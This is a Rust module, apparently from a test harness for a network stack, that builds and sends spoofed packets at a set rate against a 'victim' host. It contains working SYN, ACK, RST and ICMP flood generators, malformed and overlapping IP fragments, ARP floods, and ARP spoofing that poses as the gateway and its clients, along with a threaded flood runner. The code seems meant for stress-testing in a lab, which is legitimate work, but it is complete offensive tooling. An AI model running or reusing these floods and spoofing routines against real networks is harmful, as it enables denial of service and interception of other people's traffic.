//! Attacks that need no state: frames at a rate.

use crate::frame::{self, Arp, Ip, Mac, SYN_OPTIONS, Segment, flag};
use crate::handle::alias;
use crate::victim::{IFACE, KERNEL, PORT, VICTIM};
use crate::wire::{Pace, Sender};
use nix::time::{ClockId, clock_gettime};
use perimeter::link::rng::SplitMix64;
use perimeter::link::tap::host;
use std::io;
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;

/// The attacker's own link-layer address.
pub const ATTACKER: Mac = [0x02, 0xba, 0xdb, 0xad, 0, 1];

/// Who is where.
#[derive(Clone, Copy, Debug)]
pub struct Place {
    /// The victim's link-layer address.
    pub victim: Mac,
    /// The kernel's: the gateway's, from which all comes that is not on the link.
    pub gateway: Mac,
    /// Prefix length of the link.
    pub prefix: u8,
    /// Seed of everything random.
    pub seed: u64,
}

impl Place {
    /// Finds the link-layer addresses out.
    ///
    /// # Errors
    /// There is no such interface, or the victim does not answer ARP.
    pub fn find(prefix: u8, seed: u64) -> io::Result<Place> {
        let gateway = host::mac(IFACE)?.0;
        // A connection makes the kernel ask.
        let _ = std::net::TcpStream::connect_timeout(
            &(VICTIM, PORT).into(),
            std::time::Duration::from_secs(3),
        );
        let table = std::fs::read_to_string("/proc/thread-self/net/arp")?;
        let line = table.lines().find(|l| l.starts_with(&format!("{VICTIM} ")));
        let text = line.and_then(|l| l.split_whitespace().nth(3)).unwrap_or("");
        let bytes: Vec<u8> = text
            .split(':')
            .filter_map(|b| u8::from_str_radix(b, 16).ok())
            .collect();
        let victim = Mac::try_from(bytes.as_slice())
            .ok()
            .filter(|m| m != &[0; 6])
            .ok_or_else(|| io::Error::other("the victim does not answer ARP"))?;
        Ok(Place {
            victim,
            gateway,
            prefix,
            seed,
        })
    }
}

/// What a flood makes its frames with.
pub struct Maker {
    pub(crate) place: Place,
    pub(crate) rng: SplitMix64,
    pub(crate) out: Vec<u8>,
    pub(crate) n: u64,
}

/// Makes one frame.
pub type Make = fn(&mut Maker);

impl Maker {
    fn off_link(&mut self) -> (Ipv4Addr, u16) {
        let r = self.rng.next();
        (
            Ipv4Addr::new(198, 19, r as u8, (r >> 8) as u8),
            1024 + (r >> 16) as u16 % 60_000,
        )
    }

    /// A stranger on the link: neither the victim nor one of the kernel's.
    fn on_link(&mut self) -> (Ipv4Addr, u16) {
        let r = self.rng.next();
        let (third, last) = match self.place.prefix {
            ..=16 => (r as u8, (r >> 8) as u8),
            17..=24 => (0, 10 + (r >> 8) as u8 % 240),
            _ => (0, 3),
        };
        let third = if last < 10 { third.max(1) } else { third };
        (
            Ipv4Addr::new(10, 77, third, last),
            1024 + (r >> 16) as u16 % 60_000,
        )
    }

    fn segment(&mut self, (mac, src): (Mac, (Ipv4Addr, u16)), flags: u8, payload: &[u8]) {
        let r = self.rng.next();
        let syn = flags == flag::SYN;
        let segment = Segment {
            macs: (mac, self.place.victim),
            src,
            dst: (VICTIM, PORT),
            seq: r as u32,
            ack: if flags & flag::ACK == 0 {
                0
            } else {
                (r >> 32) as u32
            },
            flags,
            window: 64_240,
            options: if syn { &SYN_OPTIONS } else { &[] },
            payload,
        };
        frame::tcp(&mut self.out, &segment);
    }

    fn outsider(&mut self) -> (Mac, (Ipv4Addr, u16)) {
        (self.place.gateway, self.off_link())
    }

    fn neighbour(&mut self) -> (Mac, (Ipv4Addr, u16)) {
        (ATTACKER, self.on_link())
    }
}

/// SYNs of strangers beyond the gateway.
pub fn syn_outside(m: &mut Maker) {
    let from = m.outsider();
    m.segment(from, flag::SYN, &[]);
}

/// SYNs in the name of neighbours.
pub fn syn_on_link(m: &mut Maker) {
    let from = m.neighbour();
    m.segment(from, flag::SYN, &[]);
}

/// Acknowledgments of strangers, with and without data.
pub fn ack_outside(m: &mut Maker) {
    let from = m.outsider();
    let data = [7; 100];
    let len = if m.n.is_multiple_of(4) { data.len() } else { 0 };
    m.segment(from, flag::ACK, &data[..len]);
}

/// Acknowledgments in the name of neighbours.
pub fn ack_on_link(m: &mut Maker) {
    let from = m.neighbour();
    m.segment(from, flag::ACK, &[]);
}

/// Resets, every other one in the name of the legitimate client.
pub fn rst(m: &mut Maker) {
    let mut from = m.outsider();
    if m.n.is_multiple_of(2) {
        from.1.0 = KERNEL;
    }
    let flags = if m.n % 4 < 2 {
        flag::RST
    } else {
        flag::RST | flag::ACK
    };
    m.segment(from, flags, &[]);
}

/// Frames that are wrong somewhere, in each header.
pub fn malformed(m: &mut Maker) {
    let from = m.outsider();
    let flags = [flag::SYN, flag::ACK, flag::ACK | flag::PSH, 0x3f][m.n as usize % 4];
    m.segment(from, flags, &[1, 2, 3]);
    let r = m.rng.next();
    let (byte, at) = ((r >> 8) as u8, (r >> 16) as usize);
    let out = &mut m.out;
    match r % 12 {
        0 => out.truncate(at % out.len()),
        1 => out[14] = byte,
        2 => out[14] = 0x40 | byte & 15,
        3 => out[16..18].copy_from_slice(&(at as u16).to_be_bytes()),
        4 => out[46] = byte,
        5 => out[50] ^= byte | 1,
        6 => out[24] ^= byte | 1,
        7 => out[12..14].copy_from_slice(&(at as u16).to_be_bytes()),
        8 => out[23] = byte,
        9 if out.len() > 74 => out[55] = byte,
        // Noise behind Ethernet's header.
        10 => {
            for b in &mut out[14..] {
                *b = m.rng.next() as u8;
            }
        }
        _ => {
            let i = 14 + at % (out.len() - 14);
            out[i] ^= byte | 1;
        }
    }
    // The device does not take less than Ethernet's header.
    if out.len() < 14 {
        out.resize(14, 0);
    }
}

/// Pieces of datagrams that are never whole: first, middle, last, and overlapping ones.
pub fn fragments(m: &mut Maker) {
    let (src, _) = m.off_link();
    let r = m.rng.next();
    let offset = [0, 1, 185, 8_189][(r % 4) as usize];
    let more = if r & 16 == 0 { 0x2000 } else { 0 };
    let ip = Ip {
        protocol: [6, 17, 1][(r >> 8) as usize % 3],
        id: (r >> 16) as u16,
        fragment: offset | more,
    };
    let data = [3; 1400];
    let len = 8 * (1 + (r >> 32) as usize % 175);
    let macs = (m.place.gateway, m.place.victim);
    frame::ipv4(&mut m.out, macs, (src, VICTIM), ip, &data[..len]);
}

/// Echo requests of 56 to 1400 bytes.
pub fn echo(m: &mut Maker) {
    let (src, _) = m.off_link();
    let len = 56 + m.rng.below(1345) as usize;
    let macs = (m.place.gateway, m.place.victim);
    frame::echo(&mut m.out, macs, (src, VICTIM), &[9; 1400][..len]);
}

/// ARP requests for the victim's address, of ever new neighbours.
pub fn arp_senders(m: &mut Maker) {
    let (ip, _) = m.on_link();
    let r = m.rng.next().to_be_bytes();
    let mac = [2, r[0], r[1], r[2], r[3], r[4]];
    let a = Arp {
        op: 1,
        sender: (mac, ip),
        target: ([0; 6], VICTIM),
    };
    frame::arp(&mut m.out, (mac, [0xff; 6]), &a);
}

/// The attacker says, in all the ways that there are, that it is the gateway and each client.
pub fn arp_takeover(m: &mut Maker) {
    let who = match m.n / 4 % 3 {
        0 | 1 => KERNEL,
        _ => alias((m.n % 5) as u8),
    };
    let (all, victim) = ([0xff; 6], m.place.victim);
    let stranger = Ipv4Addr::new(10, 77, 0, 200);
    let (op, to, target) = match m.n % 4 {
        0 => (2, all, (all, who)),
        1 => (2, victim, (victim, VICTIM)),
        2 => (1, victim, ([0; 6], VICTIM)),
        _ => (1, all, ([0; 6], stranger)),
    };
    let a = Arp {
        op,
        sender: (ATTACKER, who),
        target,
    };
    frame::arp(&mut m.out, (ATTACKER, to), &a);
}

/// An attack that goes on.
pub struct Running {
    stop: Arc<AtomicBool>,
    frames: Arc<AtomicU64>,
    spent: Arc<AtomicU64>,
    threads: Vec<JoinHandle<()>>,
    release: Option<Box<dyn FnOnce() + Send>>,
}

/// What is left of an attack that has ended.
pub struct Ended {
    /// Frames that went.
    pub frames: u64,
    /// The attacker's processor time, ns.
    pub spent: u64,
    release: Option<Box<dyn FnOnce() + Send>>,
}

impl Ended {
    /// Lets go of connections that the attacker still holds.
    pub fn release(self) {
        if let Some(f) = self.release {
            f();
        }
    }
}

/// What an attacking thread counts with.
#[derive(Clone)]
pub struct Meter {
    /// It has to end.
    pub stop: Arc<AtomicBool>,
    /// Frames sent, or requests made.
    pub frames: Arc<AtomicU64>,
    spent: Arc<AtomicU64>,
}

impl Meter {
    /// Whether to end.
    pub fn over(&self) -> bool {
        self.stop.load(Ordering::Relaxed)
    }
}

impl Default for Running {
    fn default() -> Running {
        Running::new()
    }
}

impl Running {
    /// Of no threads yet.
    pub fn new() -> Running {
        Running {
            stop: Arc::default(),
            frames: Arc::default(),
            spent: Arc::default(),
            threads: Vec::new(),
            release: None,
        }
    }

    /// What lets go of connections that outlive the attack.
    pub fn on_release(&mut self, f: impl FnOnce() + Send + 'static) {
        self.release = Some(Box::new(f));
    }

    /// For what is done on the caller's thread.
    pub fn meter(&self) -> Meter {
        Meter {
            stop: self.stop.clone(),
            frames: self.frames.clone(),
            spent: self.spent.clone(),
        }
    }

    /// Adds a thread.
    pub fn thread(&mut self, body: impl FnOnce(&Meter) + Send + 'static) {
        let meter = self.meter();
        self.threads.push(std::thread::spawn(move || {
            body(&meter);
            let ns = clock_gettime(ClockId::CLOCK_THREAD_CPUTIME_ID).map_or(0, |t| {
                t.tv_sec() as u64 * 1_000_000_000 + t.tv_nsec() as u64
            });
            meter.spent.fetch_add(ns, Ordering::Relaxed);
        }));
    }

    /// A flood of `rate` frames a second.
    ///
    /// # Errors
    /// No packet socket can be had.
    pub fn flood(place: Place, rate: u64, make: Make) -> io::Result<Running> {
        let sender = Sender::open(IFACE)?;
        let mut running = Running::new();
        running.thread(move |meter| {
            let mut m = Maker {
                place,
                rng: SplitMix64::new(place.seed),
                out: Vec::with_capacity(1514),
                n: 0,
            };
            let mut pace = Pace::new(rate);
            while !meter.over() {
                for _ in 0..pace.due() {
                    make(&mut m);
                    m.n += 1;
                    meter
                        .frames
                        .fetch_add(u64::from(sender.send(&m.out)), Ordering::Relaxed);
                }
            }
        });
        Ok(running)
    }

    /// Frames that went, so far.
    pub fn frames(&self) -> u64 {
        self.frames.load(Ordering::Relaxed)
    }

    /// Ends it, in silence.
    pub fn stop(self) -> Ended {
        self.stop.store(true, Ordering::Relaxed);
        for t in self.threads {
            let _ = t.join();
        }
        Ended {
            frames: self.frames.load(Ordering::Relaxed),
            spent: self.spent.load(Ordering::Relaxed),
            release: self.release,
        }
    }
}
